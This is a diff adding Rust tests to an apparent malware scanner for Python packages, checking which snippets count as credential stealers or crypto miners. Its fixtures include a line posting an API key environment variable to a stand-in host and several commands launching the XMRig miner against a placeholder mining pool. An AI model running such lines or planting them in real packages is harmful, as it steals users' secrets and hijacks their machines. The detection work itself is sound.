@@ -1012,3 +1012,90 @@ fn cloud_sdk_chains_metadata_probes_and_child_environments_are_not_stealers() {
         ("local.py", child_env),
     ]);
 }
+
+/// `os.environ['API_KEY'] = key` stores a value the module got (an identity service's answer in
+/// firecrawl's e2e `conftest.py`); it reads no secret, so beside a network call at load it is
+/// network at load (medium), not a stealer. Reading the same variable and sending it is.
+#[test]
+fn a_secret_variable_stored_or_deleted_is_not_read() {
+    let stored = "import os, requests\n\
+                  def identity(url):\n\
+                  \x20   r = requests.post(url + '/', json={'name': 'e2e'})\n\
+                  \x20   return r.json()\n\
+                  URL = os.getenv('IDMUX_URL')\n\
+                  if URL:\n\
+                  \x20   ID = identity(URL)\n\
+                  \x20   os.environ['API_KEY'] = ID.get('apiKey', '')\n\
+                  \x20   os.environ['GITHUB_TOKEN'], other = ID['token'], 1\n\
+                  \x20   del os.environ['AWS_SECRET_ACCESS_KEY']\n";
+    let dir = tempfile::tempdir().expect("tempdir");
+    let p = package(dir.path(), "stored", "__init__.py", stored);
+    let r = scan_file(&p, BudgetLimits::default());
+    assert_eq!(
+        worst(&r, "python-credential-stealer"),
+        None,
+        "{:#?}",
+        summary(&r)
+    );
+    assert_eq!(
+        worst(&r, "python-network-at-load"),
+        Some(Severity::Medium),
+        "{:#?}",
+        summary(&r)
+    );
+    let read = "import os, requests\n\
+                requests.post('https://h.example.invalid/', data=os.environ['API_KEY'])\n";
+    let p = package(dir.path(), "read", "__init__.py", read);
+    let r = scan_file(&p, BudgetLimits::default());
+    assert_eq!(
+        worst(&r, "python-credential-stealer"),
+        Some(Severity::Critical),
+        "{:#?}",
+        summary(&r)
+    );
+}
+
+/// A miner started as a program, without a shell (`Popen(['./xmrig', '-o', POOL, …])`, the
+/// argv as `args=`, the pool or the miner's path bound to a name, only XMRig's
+/// `--donate-level` flag naming it): critical, as the shell spelling is. A process whose
+/// arguments name no miner, in a file that only mentions one, stays below medium.
+#[test]
+fn a_miner_started_with_an_argument_list_is_critical() {
+    let cases = [
+        (
+            "argv",
+            "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'pool.example.invalid:3333', '-u', 'WALLET', '--donate-level', '1'])\n",
+        ),
+        (
+            "args-keyword",
+            "import subprocess\nsubprocess.run(args=['xmrig', '--url=stratum+tcp://pool.example.invalid:3333', '--user=WALLET'])\n",
+        ),
+        (
+            "bound-pool",
+            "import subprocess, os\nPOOL = 'stratum+ssl://pool.example.invalid:443'\nBIN = os.path.join(os.path.dirname(__file__), 'bin', 'helper')\ndef start():\n    subprocess.Popen([BIN, '-o', POOL, '-u', 'WALLET'], stdout=subprocess.DEVNULL)\nstart()\n",
+        ),
+        (
+            "flag-only",
+            "import subprocess\nsubprocess.Popen(['./gpu-helper', '-o', 'pool.example.invalid:3333', '--donate-level=1'])\n",
+        ),
+    ];
+    let dir = tempfile::tempdir().expect("tempdir");
+    for (case, src) in cases {
+        let p = package(dir.path(), case, "__init__.py", src);
+        let r = scan_file(&p, BudgetLimits::default());
+        assert_eq!(
+            worst(&r, "python-miner"),
+            Some(Severity::Critical),
+            "{case}: {:#?}",
+            summary(&r)
+        );
+    }
+    let benign = "import subprocess\n\"\"\"Detects miners such as XMRig by their process names.\"\"\"\nSIGNATURES = ['xmrig', 'stratum+tcp']\ndef version():\n    return subprocess.run(['git', 'describe'], capture_output=True).stdout\n";
+    let p = package(dir.path(), "detector", "scan.py", benign);
+    let r = scan_file(&p, BudgetLimits::default());
+    assert!(
+        r.worst().is_none_or(|w| w < Severity::Medium),
+        "{:#?}",
+        summary(&r)
+    );
+}
